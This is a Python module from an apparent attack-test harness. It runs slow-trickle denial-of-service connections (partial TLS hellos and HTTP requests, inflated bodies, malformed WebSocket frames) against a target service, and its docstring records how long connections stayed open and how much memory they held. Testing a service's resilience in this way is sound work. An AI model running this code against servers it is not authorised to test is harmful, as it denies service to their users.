"""Every phase, as slowly as can be.

Half a TLS hello, half a head, half a body, answers that nobody reads, half a frame, each followed by a byte a
second. Some stayed for 100 s and more, a frame for ever; an HTTP/2 window of 0 held 5 MB each.
"""

from collections import Counter
from functools import partial

import trio

from bench.attack.harness import Report
from bench.attack.tools import ATTACKERS, UPGRADE, Target, connect, crowd, request

NUMBER = "12.15"
SHORT = 4.0
_AT_ONCE = 20  # of each kind


async def attack(target: Target, seconds: float) -> dict[str, int]:
    upgrade = request(target, "/ws", **UPGRADE)
    kinds = {
        "nothing": b"",
        "head": request(target, "/")[:-2],
        "body": request(target, "/api/ice", "POST", Content_Length="9999"),
        "answers": request(target, "/web/peershare.js") * 100,
        "frame": upgrade + b"\x81\xfe\xff\xff\0\0\0\0",
        "fragments": upgrade + b"\x01\x81\0\0\0\0x",
    }
    return await crowd(
        _AT_ONCE * len(kinds), seconds, partial(_trickle, target, list(kinds.items())), again=0.1
    )


async def _trickle(target: Target, kinds: list[tuple[str, bytes]], number: int, counts: Counter[str]) -> None:
    name, sent = kinds[number % len(kinds)]
    async with await connect(target, ATTACKERS[0]) as stream:
        counts[name] += 1
        await stream.send_all(sent)
        while True:
            await trio.sleep(1)
            await stream.send_all(b"x")


def check(report: Report) -> None:
    """Everything was tried; what is kept of it is in the memory that the harness looks at."""
    assert len(report.counts) >= 6
